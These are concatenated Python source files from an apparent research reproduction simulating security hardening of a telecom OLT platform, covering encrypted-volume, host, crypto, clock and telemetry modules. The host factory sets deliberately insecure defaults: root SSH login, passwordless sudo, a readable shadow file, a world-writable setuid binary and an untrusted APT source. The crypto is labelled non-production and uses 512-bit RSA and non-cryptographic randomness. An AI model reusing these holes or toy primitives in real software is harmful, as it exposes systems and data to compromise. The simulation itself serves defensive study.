        "kernel.unprivileged_bpf_disabled": "0",
        "kernel.yama.ptrace_scope": "0",
        "net.ipv4.ip_forward": "1",         # required for SDN forwarding
        "kernel.sysrq": "1",
        "kernel.modules_disabled": "0",
        "fs.protected_symlinks": "0",
        "fs.protected_hardlinks": "0",
    })
    kernel.loaded_modules.update({"openvswitch", "8021q", "veth", "usb_storage",
                                  "firewire_core", "dccp"})
    return kernel

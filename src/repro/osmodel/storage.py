"""LUKS-style encrypted volumes with passphrase and TPM-bound key slots.

Implements the M6 secure-storage mechanism: a volume master key encrypts
the partition contents; key *slots* wrap the master key under either a
passphrase-derived key (manual entry — Lesson 3's in-field pain point) or
a TPM-sealed secret (the Clevis pattern, releasing the key only when the
measured boot state matches).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Optional, Sequence

from repro.common import crypto
from repro.common.errors import AuthenticationError, AuthorizationError, NotFoundError
from repro.osmodel.tpm import Tpm


def _derive_from_passphrase(passphrase: str, salt: bytes) -> bytes:
    """PBKDF stand-in: iterated HMAC (few rounds; behaviour, not cost)."""
    key = passphrase.encode()
    for _ in range(16):
        key = crypto.hmac_sha256(salt, key)
    return key


@dataclass
class KeySlot:
    """One LUKS key slot: the master key wrapped under a slot key."""

    slot_type: str               # "passphrase" | "tpm"
    wrapped_master: bytes
    salt: bytes = b""
    tpm_blob_name: str = ""


class LuksVolume:
    """An encrypted partition with up to 8 key slots."""

    MAX_SLOTS = 8

    def __init__(self, name: str, passphrase: str) -> None:
        if not passphrase:
            raise ValueError("initial passphrase must be non-empty")
        self.name = name
        self._master_key = crypto.random_key(length=32)
        self._data: Dict[str, bytes] = {}       # encrypted at rest
        self._slots: List[KeySlot] = []
        self._unlocked_key: Optional[bytes] = None
        self.unlock_attempts = 0
        self.failed_unlocks = 0
        self.add_passphrase_slot(passphrase)

    # -- slots -------------------------------------------------------------------

    def add_passphrase_slot(self, passphrase: str) -> KeySlot:
        self._check_slot_space()
        salt = crypto.random_key(length=16)
        slot_key = _derive_from_passphrase(passphrase, salt)
        slot = KeySlot(
            slot_type="passphrase",
            wrapped_master=crypto.aead_encrypt(slot_key, self._master_key),
            salt=salt,
        )
        self._slots.append(slot)
        return slot

    def bind_to_tpm(self, tpm: Tpm, pcr_selection: Sequence[int]) -> KeySlot:
        """Clevis-style binding: seal the master key to current PCR state."""
        self._check_slot_space()
        blob_name = f"luks:{self.name}:slot{len(self._slots)}"
        tpm.seal(blob_name, self._master_key, pcr_selection)
        slot = KeySlot(slot_type="tpm", wrapped_master=b"", tpm_blob_name=blob_name)
        self._slots.append(slot)
        return slot

    def _check_slot_space(self) -> None:
        if len(self._slots) >= self.MAX_SLOTS:
            raise ValueError(f"volume {self.name} has no free key slots")

    @property
    def slots(self) -> List[KeySlot]:
        return list(self._slots)

    # -- unlock ---------------------------------------------------------------------

    def unlock_with_passphrase(self, passphrase: str) -> None:
        """Manual unlock (the fallback Lesson 3 forces on ONL nodes)."""
        self.unlock_attempts += 1
        for slot in self._slots:
            if slot.slot_type != "passphrase":
                continue
            slot_key = _derive_from_passphrase(passphrase, slot.salt)
            try:
                self._unlocked_key = crypto.aead_decrypt(slot_key, slot.wrapped_master)
                return
            except Exception:
                continue
        self.failed_unlocks += 1
        raise AuthenticationError(f"no passphrase slot on {self.name} accepts this passphrase")

    def unlock_with_tpm(self, tpm: Tpm) -> None:
        """Automatic unlock iff the sealed PCR policy is satisfied.

        :raises AuthorizationError: measured boot state differs from the
            state the volume was bound under (tampered boot chain).
        :raises NotFoundError: the volume has no TPM slot (Lesson 3: the
            Clevis stack is unavailable on the old ONL base).
        """
        self.unlock_attempts += 1
        tpm_slots = [s for s in self._slots if s.slot_type == "tpm"]
        if not tpm_slots:
            raise NotFoundError(f"volume {self.name} has no TPM-bound slot")
        try:
            self._unlocked_key = tpm.unseal(tpm_slots[0].tpm_blob_name)
        except AuthorizationError:
            self.failed_unlocks += 1
            raise

    def lock(self) -> None:
        self._unlocked_key = None

    @property
    def unlocked(self) -> bool:
        return self._unlocked_key is not None

    # -- data -----------------------------------------------------------------------

    def write(self, key: str, plaintext: bytes) -> None:
        self._require_unlocked()
        self._data[key] = crypto.aead_encrypt(self._unlocked_key, plaintext,
                                              associated_data=key.encode())

    def read(self, key: str) -> bytes:
        self._require_unlocked()
        blob = self._data.get(key)
        if blob is None:
            raise NotFoundError(f"no such entry {key!r} on {self.name}")
        return crypto.aead_decrypt(self._unlocked_key, blob,
                                   associated_data=key.encode())

    def raw_ciphertext(self, key: str) -> bytes:
        """What an attacker reading the disk at rest sees."""
        blob = self._data.get(key)
        if blob is None:
            raise NotFoundError(f"no such entry {key!r} on {self.name}")
        return blob

    def _require_unlocked(self) -> None:
        if self._unlocked_key is None:
            raise AuthorizationError(f"volume {self.name} is locked")

"""Factory functions building realistic hosts.

:func:`stock_onl_olt_host` reproduces the *starting point* of the paper's
hardening work: an ONL (Debian 10) OLT node with the insecure defaults the
M1/M2 mitigations exist to fix — permissive SSH, untrusted APT sources, no
NTP, world-writable paths, passwordless sudo, a soft kernel. The E5
hardening-coverage experiment measures SCAP/STIG/kernel-check pass rates
on this host before and after :mod:`repro.security.hardening` runs.
"""

from __future__ import annotations

from typing import Optional

from repro.common.clock import SimClock
from repro.common.events import EventBus
from repro.osmodel.host import CLOUD_DISTRO, Host, ONL_DISTRO
from repro.osmodel.kernel import stock_onl_kernel
from repro.osmodel.packages import Package
from repro.osmodel.services import Service
from repro.osmodel.users import User


def stock_onl_olt_host(hostname: str = "olt-node-1",
                       clock: Optional[SimClock] = None,
                       bus: Optional[EventBus] = None) -> Host:
    """An un-hardened ONL OLT node as first brought up in the lab."""
    host = Host(hostname, distro=ONL_DISTRO, kernel=stock_onl_kernel(),
                clock=clock, bus=bus)

    # -- user-space packages (versions chosen to carry known CVEs) -------------
    for package in [
        Package("openssl", "1.1.1d", "TLS library"),
        Package("openssh-server", "7.9p1", "SSH daemon"),
        Package("bash", "5.0", "shell"),
        Package("systemd", "241", "init system"),
        Package("curl", "7.64.0", "HTTP client"),
        Package("libc6", "2.28", "C library"),
        Package("sudo", "1.8.27", "privilege elevation"),
        Package("rsyslog", "8.1901.0", "logging"),
        Package("onlp", "1.2.0", "ONL platform library"),
        Package("openvswitch-switch", "2.10.7", "SDN datapath"),
        Package("python3", "3.7.3", "runtime"),
        Package("busybox", "1.30.1", "utilities"),
        Package("ntp", "4.2.8p12", "time sync", ),
        Package("telnetd", "0.17", "legacy remote access"),
        Package("tftpd-hpa", "5.2", "legacy firmware loader"),
    ]:
        host.packages.install(package)

    # -- services with insecure defaults ----------------------------------------
    host.services.add(Service(
        "sshd", port=22, runs_as="root", essential=True,
        config={
            "PermitRootLogin": "yes",
            "PasswordAuthentication": "yes",
            "Protocol": "2",
            "X11Forwarding": "yes",
            "MaxAuthTries": "10",
            "ClientAliveInterval": "0",
            "Ciphers": "aes128-cbc,3des-cbc,aes256-ctr",
        },
    ))
    host.services.add(Service("telnetd", port=23, runs_as="root"))
    host.services.add(Service("tftpd", port=69, runs_as="root"))
    host.services.add(Service("ntpd", running=False, enabled=False))
    host.services.add(Service("rsyslogd", essential=True))
    host.services.add(Service("onlpd", essential=True, runs_as="root"))
    host.services.add(Service("ovs-vswitchd", essential=True, runs_as="root",
                              port=6640))
    host.services.add(Service("snmpd", port=161,
                              config={"community": "public"}))
    host.services.add(Service("http-mgmt", port=80, tls=False,
                              config={"auth": "basic"}))

    # -- users --------------------------------------------------------------------
    host.users.add(User("root", uid=0, password_set=True, shell="/bin/bash"))
    host.users.add(User("admin", uid=1000, groups={"sudo"}, sudo=True,
                        sudo_nopasswd=True))
    host.users.add(User("operator", uid=1001, sudo=True, sudo_nopasswd=True))
    host.users.add(User("diag", uid=1002, password_set=False))
    host.users.add(User("legacy-svc", uid=1003, password_set=False,
                        shell="/bin/bash"))

    # -- filesystem ------------------------------------------------------------------
    fs = host.fs
    fs.write("/boot/vmlinuz-4.19.0-onl", b"ONL-KERNEL-IMAGE-v1", mode=0o666)
    fs.write("/boot/grub/grub.cfg", b"set timeout=5\nlinux /vmlinuz", mode=0o666)
    fs.write("/etc/passwd", b"root:x:0:0::/root:/bin/bash\n", mode=0o644)
    fs.write("/etc/shadow", b"root:$6$salt$hash:18000:0:99999\n", mode=0o644)
    fs.write("/etc/ssh/sshd_config", b"PermitRootLogin yes\n", mode=0o644)
    fs.write("/etc/sudoers", b"%sudo ALL=(ALL) NOPASSWD:ALL\n", mode=0o660)
    fs.write("/etc/apt/sources.list",
             b"deb http://deb.debian.org/debian buster main\n"
             b"deb http://mirror.example.net/unofficial buster main\n"
             b"deb [trusted=yes] http://sketchy.example.org/onl ./\n",
             mode=0o644)
    fs.write("/usr/bin/sudo", b"SUDO-BINARY-1.8.27", mode=0o4755)
    fs.write("/usr/bin/passwd", b"PASSWD-BINARY", mode=0o4755)
    fs.write("/usr/bin/legacy-helper", b"VENDOR-HELPER", mode=0o4777)
    fs.write("/usr/sbin/onlpd", b"ONLPD-BINARY-1.2.0", mode=0o755)
    fs.write("/usr/sbin/sshd", b"SSHD-BINARY-7.9", mode=0o755)
    fs.write("/tmp/scratch", b"", mode=0o777)
    fs.write("/var/log/messages", b"", mode=0o666)
    fs.write("/etc/ntp.conf", b"# ntp unconfigured\n", mode=0o644)

    return host


def cloud_host(hostname: str = "cloud-ctl-1",
               clock: Optional[SimClock] = None,
               bus: Optional[EventBus] = None) -> Host:
    """A mainstream-Debian cloud orchestration node (already modern)."""
    from repro.osmodel.kernel import KernelConfig
    host = Host(hostname, distro=CLOUD_DISTRO, clock=clock, bus=bus,
                kernel=KernelConfig(version="6.1.0-cloud"))
    host.kernel.kconfig.update({
        "CONFIG_STACKPROTECTOR": "y",
        "CONFIG_STACKPROTECTOR_STRONG": "y",
        "CONFIG_RANDOMIZE_BASE": "y",
        "CONFIG_STRICT_KERNEL_RWX": "y",
        "CONFIG_KEXEC": "n",
        "CONFIG_KPROBES": "n",
        "CONFIG_DEBUG_FS": "n",
        "CONFIG_MODULE_SIG": "y",
        "CONFIG_SECURITY": "y",
    })
    host.kernel.cmdline["mitigations"] = "auto"
    host.kernel.sysctl.update({
        "kernel.kptr_restrict": "2",
        "kernel.dmesg_restrict": "1",
        "kernel.unprivileged_bpf_disabled": "1",
        "kernel.yama.ptrace_scope": "1",
        "kernel.sysrq": "0",
        "fs.protected_symlinks": "1",
        "fs.protected_hardlinks": "1",
    })
    host.kernel.enable_lsm("apparmor")
    host.kernel.microcode_revision = 42

    for package in [
        Package("openssl", "3.0.11", "TLS library"),
        Package("openssh-server", "9.2p1", "SSH daemon"),
        Package("systemd", "252", "init system"),
        Package("kubelet", "1.28.4", "Kubernetes node agent"),
        Package("containerd", "1.7.8", "container runtime"),
        Package("clevis", "19", "TPM auto-unlock", depends=("tpm2-tools",),
                min_distro_release=11),
        Package("tpm2-tools", "5.5", "TPM utilities", min_distro_release=11),
    ]:
        host.packages.install(package)

    host.services.add(Service("sshd", port=22, essential=True, config={
        "PermitRootLogin": "no",
        "PasswordAuthentication": "no",
        "Protocol": "2",
        "X11Forwarding": "no",
        "MaxAuthTries": "3",
        "ClientAliveInterval": "300",
        "Ciphers": "chacha20-poly1305,aes256-gcm",
    }))
    host.services.add(Service("ntpd", running=True, enabled=True))
    host.services.add(Service("kube-apiserver", port=6443, tls=True,
                              essential=True))
    host.users.add(User("root", uid=0, password_locked=True,
                        shell="/usr/sbin/nologin"))
    host.users.add(User("ops", uid=1000, sudo=True, sudo_nopasswd=False))
    host.fs.write("/etc/ssh/sshd_config", b"PermitRootLogin no\n", mode=0o600)
    host.fs.write("/etc/shadow", b"root:!locked:19000:0:99999\n", mode=0o640)
    host.fs.write("/boot/vmlinuz-6.1.0-cloud", b"CLOUD-KERNEL", mode=0o600)
    return host

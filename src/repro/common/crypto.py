"""Simulated-but-behaviourally-faithful cryptography.

The real GENIO platform relies on AES-GCM (MACsec, GPON payload
encryption), RSA/X.509 (node onboarding, ONIE image signing), GPG (APT
repositories) and SHA-2 (TPM measurements, Tripwire baselines). This
module provides stand-ins with the *same observable behaviour*:

* :func:`sha256` / :func:`hmac_sha256` -- real, from :mod:`hashlib`.
* :class:`RsaKeyPair` -- a from-scratch textbook-RSA-with-hashing scheme
  (Miller-Rabin keygen, PKCS#1-style sign/verify, simple OAEP-less
  encryption used only for key wrapping inside the simulation).
* :func:`aead_encrypt` / :func:`aead_decrypt` -- an authenticated stream
  cipher (SHA-256 in counter mode for the keystream, HMAC-SHA-256 over
  nonce, associated data and ciphertext for the tag). Like AES-GCM it
  provides confidentiality + integrity + authenticity: decrypting with the
  wrong key or a tampered ciphertext raises :class:`IntegrityError`.

None of this is production cryptography; it exists so the security
experiments exercise genuine verify/reject code paths offline.
"""

from __future__ import annotations

import hashlib
import hmac as _hmac
import random
from dataclasses import dataclass
from typing import Optional, Tuple

from repro.common.errors import IntegrityError


# ---------------------------------------------------------------------------
# Hashing
# ---------------------------------------------------------------------------

def sha256(data: bytes) -> bytes:
    """SHA-256 digest of ``data``."""
    return hashlib.sha256(data).digest()


def sha256_hex(data: bytes) -> str:
    """Hex-encoded SHA-256 digest of ``data``."""
    return hashlib.sha256(data).hexdigest()


def hmac_sha256(key: bytes, data: bytes) -> bytes:
    """HMAC-SHA-256 of ``data`` under ``key``."""
    return _hmac.new(key, data, hashlib.sha256).digest()


def constant_time_equals(a: bytes, b: bytes) -> bool:
    """Timing-safe comparison (mirrors real verification code paths)."""
    return _hmac.compare_digest(a, b)


# ---------------------------------------------------------------------------
# Authenticated encryption (AES-GCM stand-in)
# ---------------------------------------------------------------------------

_TAG_LEN = 32
_NONCE_LEN = 16


def _keystream(key: bytes, nonce: bytes, length: int) -> bytes:
    """SHA-256 counter-mode keystream."""
    blocks = []
    counter = 0
    while sum(len(b) for b in blocks) < length:
        blocks.append(sha256(key + nonce + counter.to_bytes(8, "big")))
        counter += 1
    return b"".join(blocks)[:length]


def aead_encrypt(
    key: bytes,
    plaintext: bytes,
    associated_data: bytes = b"",
    nonce: Optional[bytes] = None,
) -> bytes:
    """Encrypt-and-authenticate; returns ``nonce || ciphertext || tag``.

    The associated data is authenticated but not encrypted, exactly like
    the AAD input to AES-GCM (used for frame headers in MACsec).
    """
    if not key:
        raise ValueError("key must be non-empty")
    if nonce is None:
        nonce = random.getrandbits(8 * _NONCE_LEN).to_bytes(_NONCE_LEN, "big")
    if len(nonce) != _NONCE_LEN:
        raise ValueError(f"nonce must be {_NONCE_LEN} bytes")
    stream = _keystream(key, nonce, len(plaintext))
    ciphertext = bytes(p ^ s for p, s in zip(plaintext, stream))
    tag = hmac_sha256(key, nonce + associated_data + ciphertext)
    return nonce + ciphertext + tag


def aead_decrypt(key: bytes, blob: bytes, associated_data: bytes = b"") -> bytes:
    """Verify-and-decrypt a blob produced by :func:`aead_encrypt`.

    :raises IntegrityError: if the tag does not verify (wrong key, tampered
        ciphertext, or tampered associated data).
    """
    if len(blob) < _NONCE_LEN + _TAG_LEN:
        raise IntegrityError("ciphertext too short to be authentic")
    nonce = blob[:_NONCE_LEN]
    ciphertext = blob[_NONCE_LEN:-_TAG_LEN]
    tag = blob[-_TAG_LEN:]
    expected = hmac_sha256(key, nonce + associated_data + ciphertext)
    if not constant_time_equals(tag, expected):
        raise IntegrityError("authentication tag mismatch")
    stream = _keystream(key, nonce, len(ciphertext))
    return bytes(c ^ s for c, s in zip(ciphertext, stream))


# ---------------------------------------------------------------------------
# RSA (from scratch, small keys, deterministic when seeded)
# ---------------------------------------------------------------------------

_SMALL_PRIMES = [2, 3, 5, 7, 11, 13, 17, 19, 23, 29, 31, 37, 41, 43, 47]


def _is_probable_prime(n: int, rng: random.Random, rounds: int = 20) -> bool:
    """Miller-Rabin primality test."""
    if n < 2:
        return False
    for p in _SMALL_PRIMES:
        if n % p == 0:
            return n == p
    d, r = n - 1, 0
    while d % 2 == 0:
        d //= 2
        r += 1
    for _ in range(rounds):
        a = rng.randrange(2, n - 1)
        x = pow(a, d, n)
        if x in (1, n - 1):
            continue
        for _ in range(r - 1):
            x = pow(x, 2, n)
            if x == n - 1:
                break
        else:
            return False
    return True


def _random_prime(bits: int, rng: random.Random) -> int:
    """Generate a random prime of exactly ``bits`` bits."""
    while True:
        candidate = rng.getrandbits(bits) | (1 << (bits - 1)) | 1
        if _is_probable_prime(candidate, rng):
            return candidate


@dataclass(frozen=True)
class RsaPublicKey:
    """RSA public key ``(n, e)``."""

    n: int
    e: int

    def fingerprint(self) -> str:
        """Short hex fingerprint identifying this key."""
        material = f"{self.n}:{self.e}".encode()
        return sha256_hex(material)[:16]

    def verify(self, data: bytes, signature: bytes) -> bool:
        """True if ``signature`` is a valid signature of ``data``."""
        try:
            sig_int = int.from_bytes(signature, "big")
        except (TypeError, ValueError):
            return False
        if not 0 < sig_int < self.n:
            return False
        recovered = pow(sig_int, self.e, self.n)
        digest = int.from_bytes(sha256(data), "big") % self.n
        return recovered == digest

    def encrypt_int(self, m: int) -> int:
        """Raw RSA encryption of an integer (key wrapping only)."""
        if not 0 <= m < self.n:
            raise ValueError("message out of range for this key")
        return pow(m, self.e, self.n)


@dataclass(frozen=True)
class RsaKeyPair:
    """RSA key pair with sign/decrypt capability."""

    public: RsaPublicKey
    d: int

    @staticmethod
    def generate(bits: int = 512, seed: Optional[int] = None) -> "RsaKeyPair":
        """Generate a key pair; deterministic when ``seed`` is given.

        512-bit keys keep the simulation fast; the verify/reject behaviour
        the experiments rely on is size-independent.
        """
        if bits < 128:
            raise ValueError("key too small even for simulation")
        rng = random.Random(seed)
        e = 65537
        while True:
            p = _random_prime(bits // 2, rng)
            q = _random_prime(bits // 2, rng)
            if p == q:
                continue
            phi = (p - 1) * (q - 1)
            if phi % e == 0:
                continue
            n = p * q
            d = pow(e, -1, phi)
            return RsaKeyPair(public=RsaPublicKey(n=n, e=e), d=d)

    def sign(self, data: bytes) -> bytes:
        """Sign SHA-256(data); verify with :meth:`RsaPublicKey.verify`."""
        digest = int.from_bytes(sha256(data), "big") % self.public.n
        sig_int = pow(digest, self.d, self.public.n)
        length = (self.public.n.bit_length() + 7) // 8
        return sig_int.to_bytes(length, "big")

    def decrypt_int(self, c: int) -> int:
        """Raw RSA decryption of an integer (key wrapping only)."""
        if not 0 <= c < self.public.n:
            raise ValueError("ciphertext out of range for this key")
        return pow(c, self.d, self.public.n)


# ---------------------------------------------------------------------------
# Hybrid key wrapping (used by the TLS-like handshake and LUKS model)
# ---------------------------------------------------------------------------

def wrap_key(recipient: RsaPublicKey, symmetric_key: bytes) -> Tuple[int, bytes]:
    """Wrap a symmetric key for ``recipient``.

    Returns ``(wrapped, check)`` where ``check`` lets the unwrapper confirm
    it recovered the right key.
    """
    m = int.from_bytes(symmetric_key, "big")
    if m >= recipient.n:
        raise ValueError("symmetric key too large for recipient key")
    wrapped = recipient.encrypt_int(m)
    return wrapped, sha256(symmetric_key)


def unwrap_key(keypair: RsaKeyPair, wrapped: int, check: bytes, key_len: int = 32) -> bytes:
    """Unwrap a symmetric key; raises :class:`IntegrityError` on mismatch."""
    m = keypair.decrypt_int(wrapped)
    symmetric_key = m.to_bytes(key_len, "big")
    if not constant_time_equals(sha256(symmetric_key), check):
        raise IntegrityError("unwrapped key failed its check value")
    return symmetric_key


def random_key(rng: Optional[random.Random] = None, length: int = 31) -> bytes:
    """Random symmetric key (31 bytes fits under 512-bit RSA moduli)."""
    rng = rng or random
    return bytes(rng.getrandbits(8) for _ in range(length))

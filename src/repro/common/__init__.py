"""Shared foundation for the GENIO reproduction.

This package provides the primitives every substrate builds on:

* :mod:`repro.common.crypto` -- simulated-but-behaviourally-faithful
  cryptography (hashing, HMAC, an authenticated stream cipher standing in
  for AES-GCM, and a from-scratch RSA for signatures and key exchange).
* :mod:`repro.common.clock` -- a deterministic simulation clock.
* :mod:`repro.common.sim` -- the discrete-event scheduler that owns all
  time advancement (periodic tasks, one-shot events, batch stepping).
* :mod:`repro.common.events` -- a typed event bus used for audit trails,
  runtime monitoring and experiment instrumentation.
* :mod:`repro.common.errors` -- the exception hierarchy.
* :mod:`repro.common.ids` -- deterministic identifier generation.
* :mod:`repro.common.telemetry` -- Prometheus-style metrics (counters,
  gauges, histograms with labels), SimClock-timestamped tracing spans,
  and the text exporter every experiment can print.
"""

from repro.common.clock import SimClock
from repro.common.errors import (
    ReproError,
    AuthenticationError,
    IntegrityError,
    AuthorizationError,
    ConfigurationError,
    NotFoundError,
)
from repro.common.events import Event, EventBus
from repro.common.sim import PeriodicTask, ScheduledEvent, Scheduler
from repro.common.ids import IdGenerator
from repro.common.telemetry import (
    MetricsRegistry,
    Span,
    Tracer,
    active_registry,
    default_registry,
    reset_default_registry,
    set_telemetry_enabled,
)

__all__ = [
    "SimClock",
    "Scheduler",
    "PeriodicTask",
    "ScheduledEvent",
    "MetricsRegistry",
    "Span",
    "Tracer",
    "active_registry",
    "default_registry",
    "reset_default_registry",
    "set_telemetry_enabled",
    "ReproError",
    "AuthenticationError",
    "IntegrityError",
    "AuthorizationError",
    "ConfigurationError",
    "NotFoundError",
    "Event",
    "EventBus",
    "IdGenerator",
]

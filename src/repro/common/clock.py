"""Deterministic simulation clock.

Every time-dependent component in the reproduction (PON transmission,
certificate validity, CVE feed publication, runtime monitoring) reads time
from a :class:`SimClock` instead of the wall clock, which keeps every
experiment reproducible and lets benchmarks fast-forward through days of
simulated operation in milliseconds.

The clock is the *time authority* only: it holds ``now`` and a timer
wheel. Deciding when to move time forward belongs to the discrete-event
engine in :mod:`repro.common.sim` — no subsystem may call
:meth:`SimClock.advance` directly (a unit test enforces this for
everything outside ``repro.common.sim``/``repro.common.clock``).
"""

from __future__ import annotations

import heapq
from typing import Callable, List, Optional, Tuple

# Heap entries: (when, tie, seq, callback). ``tie`` orders same-instant
# timers (the sim scheduler hands out seeded tie tokens); ``seq`` keeps
# the ordering total so callbacks are never compared.
_Timer = Tuple[float, float, int, Callable[[], None]]


class SimClock:
    """A manually-advanced clock with an optional timer wheel.

    Time is a float number of simulated seconds since the simulation epoch.
    """

    def __init__(self, start: float = 0.0) -> None:
        if start < 0:
            raise ValueError("clock cannot start before the epoch")
        self._now = float(start)
        self._timers: List[_Timer] = []
        self._timer_seq = 0

    @property
    def now(self) -> float:
        """Current simulated time in seconds."""
        return self._now

    def advance(self, seconds: float) -> None:
        """Move time forward, firing any timers that come due, in order.

        The drain is re-entrancy-safe: a callback that schedules further
        timers (``call_later`` from inside a firing timer) gets them fired
        *within the same advance* whenever they land at or before the
        original deadline, at their correct simulated time; timers landing
        beyond the deadline stay pending. A callback that itself advances
        the clock can move ``now`` past the deadline — the final
        assignment never rewinds time.
        """
        if seconds < 0:
            raise ValueError("cannot advance the clock backwards")
        deadline = self._now + seconds
        while self._timers and self._timers[0][0] <= deadline:
            due, _tie, _seq, callback = heapq.heappop(self._timers)
            if due > self._now:
                self._now = due
            callback()
        if deadline > self._now:
            self._now = deadline

    def advance_to(self, when: float) -> None:
        """Advance the clock to an absolute simulated time."""
        if when < self._now:
            raise ValueError("cannot advance the clock backwards")
        self.advance(when - self._now)

    def call_at(self, when: float, callback: Callable[[], None],
                tie: float = 0.0) -> None:
        """Schedule ``callback`` to fire when the clock reaches ``when``.

        ``tie`` breaks ordering between timers due at the same instant
        (lower fires first); the default of 0.0 keeps direct registrations
        ahead of scheduler-managed tasks, which carry seeded tokens.
        """
        if when < self._now:
            raise ValueError("cannot schedule a timer in the past")
        self._timer_seq += 1
        heapq.heappush(self._timers, (when, tie, self._timer_seq, callback))

    def call_later(self, delay: float, callback: Callable[[], None],
                   tie: float = 0.0) -> None:
        """Schedule ``callback`` to fire ``delay`` seconds from now."""
        self.call_at(self._now + delay, callback, tie=tie)

    def pending_timers(self) -> int:
        """Number of timers not yet fired."""
        return len(self._timers)


_default_clock: Optional[SimClock] = None


def default_clock() -> SimClock:
    """Process-wide clock for components that are not given one explicitly."""
    global _default_clock
    if _default_clock is None:
        _default_clock = SimClock()
    return _default_clock


def reset_default_clock() -> None:
    """Reset the process-wide clock (used by test fixtures)."""
    global _default_clock
    _default_clock = None

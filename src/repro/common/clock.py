"""Deterministic simulation clock.

Every time-dependent component in the reproduction (PON transmission,
certificate validity, CVE feed publication, runtime monitoring) reads time
from a :class:`SimClock` instead of the wall clock, which keeps every
experiment reproducible and lets benchmarks fast-forward through days of
simulated operation in milliseconds.
"""

from __future__ import annotations

import heapq
from typing import Callable, List, Optional, Tuple


class SimClock:
    """A manually-advanced clock with an optional timer wheel.

    Time is a float number of simulated seconds since the simulation epoch.
    """

    def __init__(self, start: float = 0.0) -> None:
        if start < 0:
            raise ValueError("clock cannot start before the epoch")
        self._now = float(start)
        self._timers: List[Tuple[float, int, Callable[[], None]]] = []
        self._timer_seq = 0

    @property
    def now(self) -> float:
        """Current simulated time in seconds."""
        return self._now

    def advance(self, seconds: float) -> None:
        """Move time forward, firing any timers that come due, in order."""
        if seconds < 0:
            raise ValueError("cannot advance the clock backwards")
        deadline = self._now + seconds
        while self._timers and self._timers[0][0] <= deadline:
            due, _, callback = heapq.heappop(self._timers)
            self._now = due
            callback()
        self._now = deadline

    def advance_to(self, when: float) -> None:
        """Advance the clock to an absolute simulated time."""
        if when < self._now:
            raise ValueError("cannot advance the clock backwards")
        self.advance(when - self._now)

    def call_at(self, when: float, callback: Callable[[], None]) -> None:
        """Schedule ``callback`` to fire when the clock reaches ``when``."""
        if when < self._now:
            raise ValueError("cannot schedule a timer in the past")
        self._timer_seq += 1
        heapq.heappush(self._timers, (when, self._timer_seq, callback))

    def call_later(self, delay: float, callback: Callable[[], None]) -> None:
        """Schedule ``callback`` to fire ``delay`` seconds from now."""
        self.call_at(self._now + delay, callback)

    def pending_timers(self) -> int:
        """Number of timers not yet fired."""
        return len(self._timers)


_default_clock: Optional[SimClock] = None


def default_clock() -> SimClock:
    """Process-wide clock for components that are not given one explicitly."""
    global _default_clock
    if _default_clock is None:
        _default_clock = SimClock()
    return _default_clock


def reset_default_clock() -> None:
    """Reset the process-wide clock (used by test fixtures)."""
    global _default_clock
    _default_clock = None

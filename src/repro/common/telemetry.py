"""Telemetry: metrics and tracing for the reproduction.

The paper's Lessons 4-8 are quantitative claims about tool overhead,
false-positive rates and integration friction; measuring them needs a
substrate. This module provides one, modelled on the OSS observability
stack an operator would actually deploy next to Falco and Vuls:

* :class:`MetricsRegistry` -- Prometheus-style counters, gauges and
  histograms, all supporting labels, with a text exporter
  (:meth:`MetricsRegistry.render`) in the Prometheus exposition format.
* :class:`Tracer` -- nested spans timestamped from both the wall clock
  (real overhead) and a :class:`~repro.common.clock.SimClock` (simulated
  operational time), so a pipeline step can report "took 3 ms of CPU to
  simulate 2 days of patching".

Instrumented components (the event bus, the PON plant, the scanners,
the Falco engine, the security pipeline) pick up the process-wide
default registry via :func:`active_registry`. Telemetry is enabled by
default and can be switched off globally with
:func:`set_telemetry_enabled` -- the E17 benchmark measures the cost of
exactly this switch.
"""

from __future__ import annotations

import bisect
import re
import time
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import (
    Callable, Dict, Iterator, List, Mapping, Optional, Sequence, Tuple,
)

from repro.common.clock import SimClock, default_clock

__all__ = [
    "Counter",
    "Gauge",
    "Histogram",
    "MetricsRegistry",
    "Span",
    "Tracer",
    "active_registry",
    "default_registry",
    "reset_default_registry",
    "set_telemetry_enabled",
    "telemetry_enabled",
]

_NAME_RE = re.compile(r"^[a-zA-Z_:][a-zA-Z0-9_:]*$")
_LABEL_RE = re.compile(r"^[a-zA-Z_][a-zA-Z0-9_]*$")

# Default latency buckets, in seconds; tuned for the hot paths this
# reproduction measures (sub-millisecond bus publishes up to multi-second
# pipeline steps).
DEFAULT_BUCKETS: Tuple[float, ...] = (
    0.0001, 0.0005, 0.001, 0.005, 0.01, 0.05, 0.1, 0.5, 1.0, 5.0, 10.0,
    float("inf"),
)


def _fmt(value: float) -> str:
    """Format a sample the way Prometheus does (integers without '.0')."""
    if value == float("inf"):
        return "+Inf"
    if value == float("-inf"):
        return "-Inf"
    if float(value).is_integer():
        return str(int(value))
    return repr(float(value))


def _escape_label(value: str) -> str:
    return value.replace("\\", r"\\").replace('"', r"\"").replace("\n", r"\n")


def _render_labels(pairs: Sequence[Tuple[str, str]]) -> str:
    if not pairs:
        return ""
    inner = ",".join(f'{name}="{_escape_label(value)}"'
                     for name, value in pairs)
    return "{" + inner + "}"


# ---------------------------------------------------------------------------
# Metric children (one per unique label combination)
# ---------------------------------------------------------------------------


class _CounterChild:
    """A single monotonically increasing sample."""

    __slots__ = ("value",)

    def __init__(self) -> None:
        self.value = 0.0

    def inc(self, amount: float = 1.0) -> None:
        if amount < 0:
            raise ValueError("counters can only increase")
        self.value += amount


class _GaugeChild:
    """A single sample that can go up and down."""

    __slots__ = ("value",)

    def __init__(self) -> None:
        self.value = 0.0

    def set(self, value: float) -> None:
        self.value = float(value)

    def inc(self, amount: float = 1.0) -> None:
        self.value += amount

    def dec(self, amount: float = 1.0) -> None:
        self.value -= amount


class _HistogramChild:
    """Cumulative bucket counts plus sum/count, Prometheus-style."""

    __slots__ = ("buckets", "counts", "sum", "count")

    def __init__(self, buckets: Tuple[float, ...]) -> None:
        self.buckets = buckets
        self.counts = [0] * len(buckets)
        self.sum = 0.0
        self.count = 0

    def observe(self, value: float) -> None:
        index = bisect.bisect_left(self.buckets, value)
        if index < len(self.counts):
            self.counts[index] += 1
        self.sum += value
        self.count += 1

    def cumulative_counts(self) -> List[int]:
        """Counts as exported: each bucket includes all smaller ones."""
        out, running = [], 0
        for bucket_count in self.counts:
            running += bucket_count
            out.append(running)
        return out


# ---------------------------------------------------------------------------
# Metric families
# ---------------------------------------------------------------------------


class _MetricFamily:
